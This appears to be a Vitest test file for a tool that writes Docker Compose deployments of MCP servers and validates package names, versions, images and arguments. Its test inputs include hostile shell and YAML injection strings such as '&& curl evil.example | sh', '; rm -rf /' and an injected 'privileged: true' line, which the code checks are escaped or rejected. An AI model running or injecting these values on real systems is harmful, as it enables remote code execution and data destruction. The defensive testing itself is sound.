import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { analyzeCompose } from '../../compose/composeFile';
import { mentionsMcp } from '../mentionsMcp';
import { NEW_OWN_SERVER, ownServerCompose, ownServerFaults, type OwnServer } from './ownServer';

const DIGEST = `sha256:${'a1'.repeat(32)}`;
const npm: OwnServer = { ...NEW_OWN_SERVER, name: '@example/notes-mcp', version: '1.4.2' };
const pypi: OwnServer = { ...NEW_OWN_SERVER, source: 'pypi', name: 'notes-mcp', version: '1.4.2' };
const image: OwnServer = {
  ...NEW_OWN_SERVER,
  source: 'image',
  image: `ghcr.io/example/notes-mcp@${DIGEST}`,
  transport: 'http',
};

interface Service {
  image: string;
  command?: string[];
  environment?: Record<string, string>;
  ports?: string[];
}
const servicesOf = (own: OwnServer, version: '1.1' | '1.2' = '1.2') =>
  (
    parse(ownServerCompose(own), { version }) as {
      services: { bridge: Service; server: Service };
    }
  ).services;
/** The arguments that Compose passes on: those after the runner's own four, or an image's command. */
const argsOf = (own: OwnServer, version?: '1.1' | '1.2') => {
  const { command = [] } = servicesOf(own, version).server;
  return (own.source === 'image' ? command : command.slice(command.length - own.args.length)).map((one) =>
    typeof one === 'string' ? one.replaceAll('$$', () => '$') : one,
  );
};

/** Text with special meaning to a shell, Compose, YAML or a package manager. */
const HOSTILE = [
  '$(touch /tmp/x)',
  '`id`',
  '; rm -rf /',
  '&& curl evil.example | sh',
  '${MCP_KEY}',
  '$MCP_KEY',
  '$$',
  '$&',
  "'",
  '"',
  '"]',
  '\\',
  '\\n',
  '- x',
  'privileged: true',
  '# comment',
  ': ',
  '&anchor',
  '*anchor',
  '!!js/function x',
  '|',
  '>-',
  '{a: 1}',
  '[a]',
  '%YAML 1.1',
  '---',
  '...',
  '<<',
  '~',
  'null',
  'yes',
  'No',
  '1_000',
  '0o7',
  '12:30:45',
  '2026-01-01',
  '1e3',
  '.inf',
  '-',
  '--',
  '--registry=https://evil.example',
  ' leading and trailing ',
  'é 茶 🍵',
  '',
];

describe('the Compose file', () => {
  it.each([
    ['npm', npm],
    ['npm over HTTP', { ...npm, transport: 'http' as const, port: '3001' }],
    ['PyPI', pypi],
    ['PyPI over HTTP', { ...pypi, transport: 'http' as const }],
    ['an image', image],
  ])('of a server from %s deploys without findings', (_source, own) => {
    const compose = ownServerCompose({ ...own, variables: ['NOTES_TOKEN'] });
    const { findings, variables } = analyzeCompose(compose, { secretNames: ['MCP_KEY', 'NOTES_TOKEN'] });
    expect(findings).toEqual([]);
    expect(variables.map(({ name }) => name).sort()).toEqual([
      'MCP_KEY',
      'MCP_KEYS',
      'MCP_ORIGINS',
      'MCP_REQUESTS_PER_MINUTE',
      'NOTES_TOKEN',
    ]);
    // The CVM's page must offer to connect to it.
    expect(mentionsMcp(compose)).toBe(true);
  });

  it('publishes only the bridge, which has the key but none of the server’s secrets', () => {
    const { bridge, server } = servicesOf({ ...npm, variables: ['NOTES_TOKEN'] });
    expect(bridge.ports).toEqual(['8080:8080']);
    expect(server.ports).toBeUndefined();
    expect(Object.keys(bridge.environment ?? {})).not.toContain('NOTES_TOKEN');
    expect(server.environment).toMatchObject({ NOTES_TOKEN: '${NOTES_TOKEN}' });
    expect(JSON.stringify(server)).not.toContain('MCP_KEY');
  });

  it('pins every image', () => {
    for (const own of [npm, pypi, image])
      for (const service of Object.values(servicesOf(own)))
        expect(service.image).toMatch(/@sha256:[0-9a-f]{64}$/);
  });

  it('passes the package and its version as two arguments', () => {
    expect(servicesOf(npm).server.command?.slice(-4)).toEqual(['stdio', '@example/notes-mcp', '1.4.2', '']);
    const http = { ...pypi, version: '1.0', program: 'notes', transport: 'http' as const, port: '8001' };
    expect(servicesOf(http).server.command?.slice(-4)).toEqual(['http', 'notes-mcp', '1.0', 'notes']);
    expect(servicesOf(http).bridge.command?.at(-1)).toBe('http://server:8001/mcp');
  });

  it.each([
    ['npm', npm],
    ['pypi', pypi],
    ['image', image],
  ])('passes a %s server’s hostile arguments on unchanged', (_source, own) => {
    const plain = servicesOf(own);
    // Compose's YAML parser is between the two versions.
    for (const version of ['1.1', '1.2'] as const) {
      expect(argsOf({ ...own, args: HOSTILE }, version)).toEqual(HOSTILE);
      const { bridge, server } = servicesOf({ ...own, args: HOSTILE }, version);
      expect(bridge).toEqual(plain.bridge);
      expect({ ...server, command: [] }).toEqual({ ...plain.server, command: [] });
    }
    const compose = ownServerCompose({ ...own, args: HOSTILE });
    expect(analyzeCompose(compose, { secretNames: ['MCP_KEY'] }).findings).toEqual([]);
  });

  it('keeps an image’s own command if there are no arguments', () => {
    expect(servicesOf(image).server).toEqual({ image: image.image, restart: 'unless-stopped' });
  });

  it('isn’t written for an invalid server', () => {
    expect(() => ownServerCompose({ ...npm, version: 'latest' })).toThrow('Enter an exact version');
  });
});

describe('a package’s name and version', () => {
  it.each(['notes', 'notes-mcp', '@example/notes.mcp', '7zip', 'a_b'])('%s is a valid npm name', (name) => {
    expect(ownServerFaults({ ...npm, name })).toEqual({});
  });

  it.each([
    '',
    'Notes',
    '-g',
    '--registry=https://evil.example',
    '../notes',
    './notes',
    '/notes',
    '@example',
    '@example/',
    '@/notes',
    '@example/../notes',
    'a/b',
    'notes@1.0.0',
    'npm:other',
    'git+https://evil.example/x.git',
    'https://evil.example/x.tgz',
    'file:notes',
    'user/repository',
    'notes\nother',
    'notes ',
    'nötes',
    '$(id)',
    'node_modules',
    'a'.repeat(215),
  ])('%j isn’t', (name) => {
    expect(ownServerFaults({ ...npm, name }).name).toBeDefined();
  });

  it.each(['notes', 'Notes_MCP', 'mcp-server.git', 'a', '2to3'])('%s is a valid PyPI name', (name) => {
    expect(ownServerFaults({ ...pypi, name })).toEqual({});
  });

  it.each([
    '',
    '-r',
    'notes-',
    '.notes',
    'notes[all]',
    'notes==1.0',
    'notes @ https://evil.example/x.whl',
    'notes;x',
    'a/b',
    'git+https://evil.example/x',
    'notes\n--index-url=x',
    'nötes',
  ])('%j isn’t', (name) => {
    expect(ownServerFaults({ ...pypi, name }).name).toBeDefined();
  });

  it.each(['1.4.2', '0.0.0', '2026.8.31', '1.0.0-beta.1', '1.0.0-0a.x-y'])(
    '%s is exact for npm',
    (version) => {
      expect(ownServerFaults({ ...npm, version })).toEqual({});
    },
  );

  it.each([
    '',
    'latest',
    '^1.4.2',
    '1.4',
    '1.x',
    '>=1.0.0',
    '1.0.0 || 2.0.0',
    '01.0.0',
    '1.0.0-01',
    '1.0.0+b',
    'v1.0.0',
    '1.0.0\n',
    `1.0.0-${'a'.repeat(80)}`,
  ])('%j isn’t', (version) => {
    expect(ownServerFaults({ ...npm, version }).version).toBeDefined();
  });

  it.each(['1', '1.4.2', '2026.8.31', '1!2.0', '1.0rc1', '1.0.post2.dev3'])(
    '%s is exact for PyPI',
    (version) => {
      expect(ownServerFaults({ ...pypi, version })).toEqual({});
    },
  );

  it.each(['', '1.*', '==1.0', '>=1.0', '1.0,<2', '1.0+local', '1.0-beta', '1.0 ; x', '1.0\n'])(
    '%j isn’t',
    (version) => {
      expect(ownServerFaults({ ...pypi, version }).version).toBeDefined();
    },
  );

  it('rejects a long text as fast as a short one', () => {
    const long = '0'.repeat(100_000);
    const faults = ownServerFaults({ ...npm, name: `${long}!`, version: `1.0.0-${long}_` });
    expect(Object.keys(faults)).toEqual(['name', 'version']);
    expect(ownServerFaults({ ...image, image: `${'a-'.repeat(100_000)}@${DIGEST}` }).image).toBeDefined();
  });
});

describe('an image', () => {
  it.each([
    `notes@${DIGEST}`,
    `example/notes:1.4@${DIGEST}`,
    `ghcr.io/example/notes-mcp:v1_2.3@${DIGEST}`,
    `registry.example.com:5000/a/b__c/d---e@${DIGEST}`,
  ])('%s can be deployed', (name) => {
    expect(ownServerFaults({ ...image, image: name })).toEqual({});
  });

  it.each([
    '',
    'notes',
    'notes:1.4',
    'notes:latest',
    'notes@sha256:abc',
    `notes@sha256:${'A1'.repeat(32)}`,
    `notes@${DIGEST}00`,
    `notes@sha512:${'a1'.repeat(64)}`,
    `Notes@${DIGEST}`,
    `https://ghcr.io/notes@${DIGEST}`,
    `notes@${DIGEST}\nprivileged: true`,
    `\${IMAGE}@${DIGEST}`,
    `notes@${DIGEST} `,
    `../notes@${DIGEST}`,
  ])('%j can’t', (name) => {
    expect(ownServerFaults({ ...image, image: name }).image).toBeDefined();
  });

  it('must speak HTTP', () => {
    expect(ownServerFaults({ ...image, transport: 'stdio' }).transport).toBeDefined();
  });
});

describe('the other entries', () => {
  it.each(['0', '65536', '-1', '8e3', '80 ', '', '8000;x', '0x50'])('%j is not a port', (port) => {
    expect(ownServerFaults({ ...image, port }).port).toBeDefined();
  });

  it.each(['', 'mcp', '/mcp?x', '/mcp#x', '/a b', '/mcp\n', '/${X}', '/%2e', `/${'a'.repeat(200)}`])(
    '%j is no path',
    (path) => {
      expect(ownServerFaults({ ...image, path }).path).toBeDefined();
    },
  );

  it('ignore the port and path of a stdio server', () => {
    expect(ownServerFaults({ ...npm, port: '', path: '' })).toEqual({});
  });

  it.each(['../sh', '/bin/sh', '-c', 'a b', '$(id)', 'a'.repeat(101)])('%j is not a program', (program) => {
    expect(ownServerFaults({ ...npm, program }).program).toBeDefined();
  });

  it('reject too many arguments, overlong ones and hidden characters', () => {
    expect(ownServerFaults({ ...npm, args: Array.from({ length: 64 }, () => 'x') })).toEqual({});
    expect(ownServerFaults({ ...npm, args: Array.from({ length: 65 }, () => 'x') }).args).toBe(
      'Enter at most 64 arguments.',
    );
    expect(ownServerFaults({ ...npm, args: ['x'.repeat(16_001)] }).args).toBeDefined();
    for (const hidden of [
      '\n',
      '\0',
      '\u001b',
      '\u0085',
      '\u2028',
      '\u202e',
      '\u2066',
      '\u200b',
      '\ufeff',
      '\ud800',
    ])
      expect(ownServerFaults({ ...npm, args: [`a${hidden}b`] }).args, JSON.stringify(hidden)).toBeDefined();
  });

  it('reject names that aren’t variables, are duplicates, or belong to the bridge', () => {
    expect(ownServerFaults({ ...npm, variables: ['A', 'b_2', '__proto__', 'HOME'] })).toEqual({});
    for (const names of [
      ['A-B'],
      ['1A'],
      ['A=1'],
      ['A\nB'],
      ['${A}'],
      ['A', 'A'],
      ['MCP_KEY'],
      ['MCP_KEYS'],
      ['MCP_ORIGINS'],
      ['A'.repeat(256)],
    ])
      expect(ownServerFaults({ ...npm, variables: names }).variables, names.join()).toBeDefined();
    expect(
      ownServerFaults({ ...npm, variables: Array.from({ length: 65 }, (_, i) => `A${i}`) }).variables,
    ).toBe('Enter at most 64 names.');
  });

  it('let a secret replace a preset variable', () => {
    expect(servicesOf({ ...npm, variables: ['HOME'] }).server.environment).toEqual({ HOME: '${HOME}' });
  });
});
